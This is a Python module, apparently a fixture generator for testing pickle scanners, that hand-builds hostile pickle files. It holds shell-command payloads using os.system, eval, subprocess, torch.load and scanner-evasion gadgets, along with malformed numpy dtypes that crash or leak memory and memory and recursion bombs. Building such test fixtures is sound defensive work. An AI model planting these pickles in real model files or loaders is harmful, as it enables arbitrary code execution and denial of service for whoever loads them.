"""Pickles written operation by operation, as no pickler would: what a hostile file may hold."""

from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import Any

PROTO, STOP = b"\x80\x02", b"."


@dataclass(frozen=True)
class Call:
    """``module.name(*arguments)``, then a state if one is given."""

    module: str
    name: str
    arguments: tuple[Any, ...] = ()
    state: Any = None


@dataclass(frozen=True)
class Raw:
    """Operations as they are."""

    operations: bytes


def operations(value: Any) -> bytes:
    """What leaves ``value`` on the stack: plain values, containers, ``Call`` and ``Raw``."""
    match value:
        case Raw(content):
            return content
        case Call(module, name, arguments, state):
            made = f"c{module}\n{name}\n".encode() + operations(arguments) + b"R"
            return made if state is None else made + operations(state) + b"b"
        case None:
            return b"N"
        case bool():
            return b"\x88" if value else b"\x89"
        case int():
            return b"\x8a\x0a" + value.to_bytes(10, "little", signed=True)
        case str():
            return b"X" + struct.pack("<I", len(value.encode())) + value.encode()
        case bytes():
            return b"B" + struct.pack("<I", len(value)) + value
        case tuple():
            return b"(" + b"".join(map(operations, value)) + b"t"
        case list():
            return b"](" + b"".join(map(operations, value)) + b"e"
        case dict():
            return b"}(" + b"".join(operations(part) for pair in value.items() for part in pair) + b"u"
    raise TypeError(type(value))


def pickled(value: Any) -> bytes:
    """The whole pickle."""
    return PROTO + operations(value) + STOP


def dtype(code: str, *state: Any) -> Call:
    """``numpy.dtype(code)`` whose state is what the file wants it to be."""
    return Call("numpy", "dtype", (code, False, True), state or None)


def lying_values() -> dict[str, Any]:
    """Numbers whose type hides object pointers, fields, or another size: each crashed or leaked memory once."""
    field = {"a": (dtype("O8"), 0)}
    far_field = {"a": (dtype("i8"), 1 << 20)}
    scalar, pointer = ("numpy.core.multiarray", "scalar"), b"\x30\x13\x37\x13\x37\x13\x00\x00"
    lies = {
        "void with an object": dtype("V8", 3, "|", None, ("a",), field, 8, 1, 0),
        "number with an object": dtype("f8", 3, "<", None, ("a",), field, 8, 1, 0),
        "field far away": dtype("i8", 3, "<", None, ("a",), far_field, 8, 1, 0),
        "subarray": dtype("f8", 3, "<", (dtype("f8"), (1 << 20,)), None, None, 8, 1, 0),
        "another size": dtype("V8", 3, "|", None, None, None, 1 << 30, 1, 0),
        "object": dtype("O8"),
        "object without the flag": dtype("O8", 3, "|", None, None, None, 8, 8, 0),
        "metadata": dtype("f8", 4, "<", None, None, None, -1, -1, 0, {"a": 1}),
        "no tuple": Call("numpy", "dtype", ("f8", False, True), {"fields": 1}),
    }
    values: dict[str, Any] = {
        name: Call(*scalar, (lie, pointer)) for name, lie in lies.items() if name != "another size"
    }
    empty = (Raw(b"cnumpy\nndarray\n"), (0,), b"b")
    for name, lie in lies.items():
        values[f"array: {name}"] = Call("numpy.core.multiarray", "_reconstruct", empty, (1, (1,), lie, False, pointer))
    for name, shape in {"huge": (1 << 30, 1 << 10), "negative": (-1,), "a text": "4", "wrong": (2,)}.items():
        values[f"array: shape {name}"] = Call(
            "numpy.core.multiarray", "_reconstruct", empty, (1, shape, dtype("f8"), False, pointer)
        )
    return values


def payloads(command: str) -> dict[str, bytes]:
    """Pickles that would run ``command`` in a shell, by each way that the format knows."""
    text = operations(command)
    run = b"cos\nsystem\n"
    getattr_ = Call("builtins", "getattr", (Raw(b"cos\nenviron\n"), "get"))
    calls = {
        "REDUCE": run + b"(" + text + b"tR",
        "NEWOBJ": run + b"(" + text + b"t\x81",
        "NEWOBJ_EX": run + b"(" + text + b"t}\x92",
        "INST": b"(" + text + b"ios\nsystem\n",
        "OBJ": b"(" + run + text + b"o",
        "STACK_GLOBAL": operations("os") + operations("system") + b"\x93(" + text + b"tR",
        "inside an allowed module": operations("numpy") + operations("dtype.__init__") + b"\x93(" + text + b"tR",
        "BUILD of a class": b"ccollections\nOrderedDict\n}(" + operations("x") + text + b"ub",
        "BUILD with __setstate__": b"ccollections\nOrderedDict\n)R" + run + b"b",
        "EXT1": b"\x82\x01",
        "EXT2": b"\x83\x01\x00",
        "EXT4": b"\x84\x01\x00\x00\x00",
        "PERSID": b"Pos.system\n",
        "BINPERSID": operations(("storage", command, "0", "cpu", 1)) + b"Q",
        "NEXT_BUFFER": b"\x97",
        "calling a text": text + b")R",
        "calling an instance": b"ccollections\nOrderedDict\n)R)R",
    }
    named = {
        "getattr": getattr_,
        "eval": Call("builtins", "eval", (f"__import__('os').system({command!r})",)),
        "Python 2's eval": Call("__builtin__", "eval", (command,)),
        "copyreg": Call("copyreg", "_reconstructor", (Raw(run), Raw(b"c__builtin__\nobject\n"), None)),
        "copyreg.__newobj__": Call("copyreg", "__newobj__", (Raw(run), command)),
        "operator.attrgetter": Call("operator", "attrgetter", ("system",)),
        "functools.partial": Call("functools", "partial", (Raw(run), command)),
        "subprocess": Call("subprocess", "Popen", (["sh", "-c", command],)),
        "numpy.load": Call("numpy", "load", (command,)),
        "numpy's test runner": Call("numpy.testing._private.utils", "runstring", (command, {})),
        "torch.load": Call("torch", "load", (command,)),
        "torch.jit": Call("torch.jit._script", "unpackage_script_module", (command,)),
        "torch's open function": Call("torch.storage", "_load_from_bytes", (pickled(Raw(calls["REDUCE"])),)),
    }
    return {name: PROTO + made + STOP for name, made in calls.items()} | {
        name: pickled(made) for name, made in named.items()
    }


def bombs() -> dict[str, bytes]:
    """Pickles that make a reader crash, hang, or take all memory."""
    doubled = b")" + b"2\x86" * 64
    deep = b")" + b"\x85" * 200_000
    return {
        "a text of 4 EB": PROTO + b"\x8d" + struct.pack("<Q", 1 << 62) + b"x" + STOP,
        "bytes of 100 GB": PROTO + b"\x8e" + struct.pack("<Q", 100 << 30) + b"x" + STOP,
        "a byte array of 100 GB": PROTO + b"\x96" + struct.pack("<Q", 100 << 30) + b"x" + STOP,
        "an integer of 2 GB": PROTO + b"\x8b" + struct.pack("<i", (1 << 31) - 1) + b"x" + STOP,
        "a memo of 4 billion": PROTO + b"Nr" + struct.pack("<I", (1 << 32) - 1) + STOP,
        "a key of doubled tuples": PROTO + b"}" + doubled + b"Ns" + STOP,
        "a key of deep tuples": PROTO + b"}" + deep + b"Ns" + STOP,
        "a set of deep tuples": PROTO + b"\x8f(" + deep + b"\x90" + STOP,
        "a frozen set of doubled tuples": PROTO + b"(" + doubled + b"\x91" + STOP,
        "deep lists": PROTO + b"]" * 100_000 + b"a" * 99_999 + STOP,
        "a text copied a thousand times": PROTO
        + operations("x" * 1_000_000)
        + b"q\x01c_codecs\nencode\nq\x020"
        + b"]("
        + (b"h\x02h\x01" + operations("latin1") + b"\x86R") * 1000
        + b"e"
        + STOP,
        "a number of 5000 digits": PROTO + b"L" + b"9" * 5000 + b"L\n" + STOP,
        "an empty stack": PROTO + b"R" + STOP,
        "no mark": PROTO + b"t" + STOP,
        "an unknown memo": PROTO + b"h\x07" + STOP,
        "no end": PROTO + b"N",
        "cut": PROTO + b"X\xff\x00\x00\x00abc",
        "another protocol": b"\x80\x09N.",
    }
